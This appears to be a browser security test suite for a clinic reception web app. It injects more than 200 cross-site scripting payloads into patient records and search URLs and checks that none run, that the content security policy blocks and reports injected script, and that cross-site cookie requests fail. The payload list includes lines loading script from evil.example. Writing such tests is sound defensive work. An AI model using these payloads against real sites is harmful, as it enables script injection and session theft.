// What attackers write into names, addresses and files, on the screens that show it: nothing of it runs. And in all of that
// the pages' own security policy finds nothing to stop: zero reports in normal use.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { call } from '../lib/api.mjs';
import { DESK, PASSWORD, URL_BASE, openBrowser, person, signIn } from '../lib/world.mjs';

const BEACON = 'window.__ran=(window.__ran||0)+1';
const TAGS = ['img', 'svg', 'iframe', 'video', 'body', 'input', 'details', 'object', 'marquee', 'audio', 'embed', 'select'];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onstart'];

/** Two hundred and more ways to have a page run what is only a name. */
function payloads() {
  const all = [
    `<script>${BEACON}</script>`,
    `"><script>${BEACON}</script>`,
    `'><script>${BEACON}</script>`,
    `</title><script>${BEACON}</script>`,
    `</textarea><script>${BEACON}</script>`,
    `<scr<script>ipt>${BEACON}</scr</script>ipt>`,
    `<script src=data:text/javascript,${BEACON}></script>`,
    `<script src=//evil.example/x.js></script>`,
    `javascript:${BEACON}`,
    `data:text/html,<script>${BEACON}</script>`,
    `<a href="javascript:${BEACON}">x</a>`,
    `<a href="jav&#x09;ascript:${BEACON}">x</a>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${BEACON}">`,
    `<svg><style><img src=x onerror="${BEACON}"></style></svg>`,
    `<noscript><p title="</noscript><img src=x onerror=${BEACON}>">`,
    `<!--><img src=x onerror=${BEACON}>-->`,
    `<form><button formaction=javascript:${BEACON}>x`,
    `<iframe srcdoc="<script>parent.${BEACON}</script>">`,
    `<link rel=stylesheet href=data:text/css,*{x:expression(${BEACON})}>`,
    `<meta http-equiv=refresh content="0;url=javascript:${BEACON}">`,
    `<base href=//evil.example/>`,
    `{{constructor.constructor('${BEACON}')()}}`,
    `\${${BEACON}}`,
    `<%= ${BEACON} %>`,
    `{@html '<img src=x onerror=${BEACON}>'}`
  ];
  for (const tag of TAGS)
    for (const handler of HANDLERS) {
      all.push(`<${tag} src=x ${handler}=${BEACON} autofocus>`);
      all.push(`"><${tag}/${handler}="${BEACON}" style="animation:x 1s">`);
      all.push(`'/><${tag.toUpperCase()} SRC=x ${handler.toUpperCase()}='${BEACON}'>`);
    }
  return all;
}

/** Things that pages' policies have stopped since the server began. */
async function reports() {
  const { text } = await call('GET', '/metrics');
  return [...text.matchAll(/^uzima_csp_violations_total\{.*\} (\d+)$/gm)].reduce((sum, [, n]) => sum + Number(n), 0);
}

let browser;
let token;
before(async () => {
  browser = await openBrowser();
  const { json } = await call('POST', '/api/v1/auth/login?token=true', undefined, { login: 'reception', password: PASSWORD });
  token = json.token;
});
after(() => browser?.close());

test('nothing that is written into a record runs', { timeout: 600_000 }, async () => {
  const all = payloads();
  assert.ok(all.length >= 200, `${all.length}`);
  const ids = [];
  // Ten fields for each patient; what validation refuses cannot run either.
  for (let at = 0; at < all.length; at += 8) {
    const eight = all.slice(at, at + 8);
    const pick = (n) => eight[n % eight.length];
    const patient = {
      resourceType: 'Patient',
      active: true,
      gender: 'female',
      birthDate: '1990-02-03',
      name: [{ family: `Zed ${pick(0)}`, given: [pick(1), pick(2)], prefix: [pick(3)], text: pick(4) }],
      address: [{ line: [pick(5)], city: pick(6), district: pick(7) }],
      contact: [{ name: { text: pick(0) }, relationship: [{ text: pick(1) }] }],
      communication: [{ language: { text: pick(2) } }],
      identifier: [{ system: 'urn:test', value: pick(3), assigner: { display: pick(4) } }],
      telecom: [{ system: 'phone', value: `+2547990${String(at).padStart(5, '0')}` }, { system: 'email', value: pick(5) }]
    };
    const made = await call('POST', '/fhir/R4/Patient', token, patient, { 'content-type': 'application/fhir+json' });
    assert.ok(made.status === 201 || made.status === 422, `${made.status} ${made.text}`);
    if (made.status === 201) ids.push(made.json.id);
  }
  assert.ok(ids.length >= 20, `${ids.length} patients with payloads`);

  const before = await reports();
  const desk = await person(browser, DESK);
  let dialogs = 0;
  desk.page.on('dialog', (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  const outside = [];
  desk.page.on('request', (request) => {
    if (request.url().startsWith('http') && !request.url().startsWith(URL_BASE)) outside.push(request.url());
  });
  await signIn(desk.page, 'reception');
  const quiet = async (where) => {
    assert.equal(await desk.page.evaluate(() => window.__ran ?? 0), 0, `something ran on ${where}`);
  };
  await desk.page.goto('/desk/patients');
  await desk.page.getByRole('heading', { level: 1 }).waitFor();
  // Names stay out of addresses, so the list is searched by its field.
  await desk.page.getByRole('searchbox').first().fill('Zed');
  await desk.page.getByText('Zed').first().waitFor();
  await quiet('the list');
  for (const id of ids) {
    await desk.page.goto(`/desk/patients/${id}`);
    await desk.page.getByText('Zed').first().waitFor();
    await quiet(id);
  }
  // The address bar belongs to attackers too.
  for (const one of all.slice(0, 40)) {
    await desk.page.goto(`/desk/patients?q=${encodeURIComponent(one)}#${encodeURIComponent(one)}`);
    await desk.page.getByRole('heading', { level: 1 }).waitFor();
    await quiet('a search');
  }
  assert.equal(dialogs, 0);
  assert.deepEqual(outside, []);
  assert.deepEqual(desk.errors, []);
  assert.equal(await reports(), before, 'reports in normal use');
});

// Proxies, routers and browsers keep addresses; nobody's name belongs there.
test('who is looked for stands in no address', { timeout: 120_000 }, async () => {
  const { page, errors } = await person(browser, DESK);
  const asked = [];
  page.on('request', (request) => asked.push(request.url()));
  await signIn(page, 'reception');
  const searched = () => page.waitForResponse((reply) => reply.url().endsWith('/patients/search') && reply.ok());
  await page.goto('/desk/patients');
  await Promise.all([searched(), page.getByRole('searchbox').fill('Wanjiku')]);
  await page.keyboard.press('Control+k');
  await Promise.all([searched(), page.getByRole('dialog').getByRole('combobox').fill('Wanjiku')]);
  await page.keyboard.press('Escape');
  await page.goto('/desk/register');
  await page.getByLabel('First names').fill('Achieng');
  await Promise.all([searched(), page.getByLabel('Family name').fill('Wanjiku')]);
  await page.goto('/desk/patients?q=x#y');
  assert.ok(asked.length > 10);
  assert.deepEqual(asked.filter((url) => /wanjiku|achieng/i.test(url)), []);
  assert.deepEqual(errors, []);
});

test('the policy stops what would run, and tells', { timeout: 120_000 }, async () => {
  const before = await reports();
  const { page } = await person(browser, DESK);
  await page.goto('/sign-in');
  await page.getByRole('button', { name: 'Sign in', exact: true }).waitFor();
  const done = await page.evaluate(async (beacon) => {
    const tries = {};
    const element = document.createElement('div');
    document.body.append(element);
    const attempt = (name, work) => {
      try {
        work();
        tries[name] = 'done';
      } catch (error) {
        tries[name] = error.name;
      }
    };
    // The browser's protocol lets the first step of what it evaluates do what the policy forbids; the next is the page's own.
    await new Promise((resolve) => setTimeout(resolve, 0));
    // Injected by a fault of our own: markup, an inline script, a script from elsewhere, text as code.
    attempt('innerHTML', () => (element.innerHTML = `<img src=x onerror="${beacon}">`));
    attempt('eval', () => (0, eval)(beacon));
    attempt('Function', () => new Function(beacon)());
    attempt('script.text', () => {
      const script = document.createElement('script');
      script.text = beacon;
      element.append(script);
    });
    attempt('handler', () => element.setAttribute('onclick', beacon));
    element.click();
    attempt('policy', () => window.trustedTypes.createPolicy('evil', { createHTML: (text) => text }));
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { tries, ran: window.__ran ?? 0 };
  }, BEACON);
  assert.equal(done.ran, 0, JSON.stringify(done.tries));
  for (const name of ['innerHTML', 'eval', 'Function', 'policy']) assert.notEqual(done.tries[name], 'done', name);
  const until = Date.now() + 20_000;
  while ((await reports()) === before && Date.now() < until) await new Promise((resolve) => setTimeout(resolve, 200));
  assert.ok((await reports()) > before, 'the reports came');
});

test('every page has another nonce, from the server and from the kept shell', { timeout: 120_000 }, async () => {
  const { page } = await person(browser, DESK);
  const nonce = () => page.evaluate(() => document.querySelector('script[nonce]').nonce);
  const seen = new Set();
  await page.goto('/sign-in');
  await page.getByRole('button', { name: 'Sign in', exact: true }).waitFor();
  seen.add(await nonce());
  // The service worker answers from now on.
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => true));
  for (let n = 0; n < 3; n += 1) {
    await page.reload();
    await page.getByRole('button', { name: 'Sign in', exact: true }).waitFor();
    seen.add(await nonce());
  }
  assert.equal(seen.size, 4, [...seen].join(' '));
});

test('a page of another site gets nothing done with our cookie', { timeout: 120_000 }, async () => {
  const { page, context } = await person(browser, DESK);
  await signIn(page, 'reception');
  const other = await context.newPage();
  // Another port of the same host: the hardest case, because it is the same site and cookies know no ports.
  const { protocol, hostname, port } = new URL(URL_BASE);
  const evil = `${protocol}//${hostname}:${Number(port) ^ 1}`;
  await other.route(`${evil}/evil`, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<title>evil</title><form method=post target=x></form><iframe name=x></iframe>' })
  );
  await other.goto(`${evil}/evil`);
  const statuses = await other.evaluate(async (target) => {
    const seen = {};
    const attempt = async (name, path, options) => {
      seen[name] = await fetch(`${target}${path}`, { credentials: 'include', ...options }).then(
        (response) => `${response.type} ${response.status}`,
        () => 'blocked'
      );
    };
    await attempt('text', '/api/v1/auth/logout', { method: 'POST', mode: 'no-cors', body: '{}' });
    await attempt('json', '/api/v1/auth/logout', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' });
    await attempt('fhir', '/fhir/R4/Patient', { method: 'POST', mode: 'no-cors', body: '{"resourceType":"Patient"}' });
    await attempt('read', '/api/v1/me', {});
    seen.socket = await new Promise((resolve) => {
      const socket = new WebSocket(`${target.replace('http', 'ws')}/ws`);
      socket.onopen = () => resolve('open');
      socket.onerror = () => resolve('refused');
    });
    return seen;
  }, URL_BASE);
  assert.equal(statuses.socket, 'refused', JSON.stringify(statuses));
  assert.equal(statuses.read, 'blocked', JSON.stringify(statuses));
  assert.equal(statuses.json, 'blocked', JSON.stringify(statuses));
  // Still signed in: the logout did not get through.
  await page.reload();
  await page.getByRole('heading', { level: 1 }).waitFor();
  assert.ok(!page.url().includes('/sign-in'), page.url());
});
